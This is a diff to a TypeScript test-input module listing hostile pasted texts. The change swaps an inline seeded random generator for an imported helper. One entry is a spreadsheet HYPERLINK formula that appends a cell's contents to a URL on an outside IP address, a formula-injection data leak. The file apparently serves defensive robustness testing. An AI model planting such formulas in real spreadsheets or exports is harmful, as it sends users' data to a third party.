@@ -1,3 +1,5 @@
+import { createSeededRandom } from '../../../collector/random/seeded-random.ts';
+
 /** What people and machines paste: formulas, markup, control characters, halves of pairs, turned text. */
 export const hostileTexts: readonly string[] = [
   '=HYPERLINK("http://198.51.100.9/?"&A1,"点我")',
@@ -21,15 +23,9 @@ export const hostileTexts: readonly string[] = [
   '_x0041_ _x000D_',
 ];
 
-/** Pseudo-random texts out of the same matter, the same for the same seed (mulberry32). */
+/** Pseudo-random texts out of the same matter, the same for the same seed. */
 export function randomTexts(seed: number, count: number): string[] {
-  let state = seed;
-  const next = (below: number) => {
-    state = (state + 0x6d2b79f5) | 0;
-    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
-    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
-    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
-  };
+  const { int: next } = createSeededRandom(seed);
   const unit = () => {
     switch (next(6)) {
       case 0:
